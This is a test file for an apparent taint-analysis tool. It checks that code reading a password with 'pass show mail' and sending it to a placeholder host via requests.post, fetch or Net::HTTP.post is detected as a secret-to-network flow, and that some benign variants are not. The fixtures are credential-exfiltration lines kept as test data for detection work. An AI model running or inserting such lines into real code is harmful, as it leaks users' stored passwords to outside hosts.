import { expect, it } from 'vitest'

import { factsOf, spec } from '../testkit.js'

const shell = {
  ...spec,
  id: 'known-bash',
  language: 'bash' as const,
  sources: [{ pattern: 'pass(show)', tag: 'item' }],
  sinks: [],
  sanitizers: ['wc'],
}
const twins = (['python', 'javascript', 'ruby'] as const).map((language) => ({
  ...spec,
  id: `known-${language}`,
  language,
  sources: [],
  sinks: [
    { pattern: 'requests.post', tag: 'net' },
    { pattern: 'fetch', tag: 'net' },
    { pattern: 'Net::HTTP.post', tag: 'net' },
  ],
}))

const python = (line: string): string =>
  `import subprocess, requests\nrequests.post("https://a.example", data=subprocess.check_output(${JSON.stringify(line)}, shell=True))`

it.each([
  ['a line', 'a.py', python('pass show mail')],
  ['a line with more before it', 'a.py', python('cd /tmp && LANG=C /usr/bin/pass show mail | base64')],
  [
    'words',
    'a.py',
    'import subprocess, requests\nrequests.post("https://a.example", data=subprocess.run(["pass", "show", "mail"], capture_output=True).stdout)',
  ],
  [
    'JavaScript',
    'a.js',
    'import { execSync } from "child_process"\nawait fetch("https://a.example", { body: execSync("pass show mail") })',
  ],
  ['Ruby', 'a.rb', 'require "net/http"\nNet::HTTP.post(URI("https://a.example"), `pass show mail`)'],
])('what a program prints is known by what packs say of it for the shell: %s', async (_, path, code) => {
  const facts = await factsOf({ [path]: code }, [shell, ...twins])
  const tags = facts.flatMap((fact) => (fact.kind === 'code.flow' ? [fact['code.flow.source_tag']] : []))
  expect(new Set(tags)).toEqual(new Set(['item']))
})

it.each(['pass list', 'pass show mail | wc -c', 'echo pass show mail'])(
  '%s prints none of it',
  async (line) => {
    const facts = await factsOf({ 'a.py': python(line) }, [shell, ...twins])
    expect(facts.filter(({ kind }) => kind === 'code.flow')).toEqual([])
  },
)
